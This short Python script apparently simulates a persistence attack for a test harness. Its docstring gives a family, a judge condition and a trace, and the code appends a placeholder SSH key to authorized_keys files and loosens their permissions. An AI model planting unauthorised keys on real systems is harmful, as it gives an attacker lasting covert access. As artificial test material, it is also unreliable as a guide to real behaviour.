"""Lets a key of its own log in as the person.

family: persistence
arguments: {home}/.ssh/authorized_keys .ssh/authorized_keys
judge: changed {home}/.ssh/authorized_keys
trace: .ssh/authorized_keys
"""

import os
import sys

for path in (sys.argv[1], os.path.join(os.path.expanduser("~"), sys.argv[2])):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write("ssh-ed25519 AAAA planted\n")
        os.chmod(path, 0o755)  # noqa: S103  # as an installer would
        print("claim: done")
    except OSError as error:
        print(error)
